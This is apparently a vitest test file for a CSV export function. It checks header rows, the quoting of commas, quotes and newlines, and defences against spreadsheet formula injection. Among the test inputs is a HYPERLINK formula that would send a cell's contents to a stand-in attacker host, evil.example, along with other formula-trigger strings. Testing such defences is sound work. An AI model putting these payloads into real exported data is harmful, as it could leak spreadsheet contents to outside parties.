import { expect, test } from 'vitest'

import { toCsv } from './csv'

/** Writes one cell as it stands in a file. */
function cell(text: string): string {
  return toCsv([text], [{ title: 'Name', value: (row) => row }]).replace(/^Name\r\n/, '').replace(/\r\n$/, '')
}

test('rows stand below their titles', () => {
  const rows = [{ id: 1, name: 'Ada', on: true, at: null }]
  const columns = [
    { title: 'ID', value: (row: (typeof rows)[0]) => row.id },
    { title: 'Name', value: (row: (typeof rows)[0]) => row.name },
    { title: 'Enabled', value: (row: (typeof rows)[0]) => row.on },
    { title: 'Last used', value: (row: (typeof rows)[0]) => row.at },
  ]
  expect(toCsv(rows, columns)).toBe('ID,Name,Enabled,Last used\r\n1,Ada,true,\r\n')
})

test.each([
  ['a, b', '"a, b"'],
  ['say "hi"', '"say ""hi"""'],
  ['two\nlines', '"two\nlines"'],
  ['a; b', 'a; b'],
  ['a=b', 'a=b'],
])('%j is %s', (text, written) => expect(cell(text)).toBe(written))

test.each([
  ['=1+1', "'=1+1"],
  ['+1', "'+1"],
  ['-1', "'-1"],
  ['@SUM(A1)', "'@SUM(A1)"],
  ['＝1+1', "'＝1+1"],
  ['－1', "'－1"],
  ['\t=1', "'\t'=1"],
  ['Ada;=HYPERLINK("https://evil.example/?"&A1)', '"Ada;\'=HYPERLINK(""https://evil.example/?""&A1)"'],
  ['Ada\n=1', '"Ada\n\'=1"'],
  ['Ada;\t@x', "Ada;'\t'@x"],
])('no spreadsheet runs %j', (text, written) => expect(cell(text)).toBe(written))
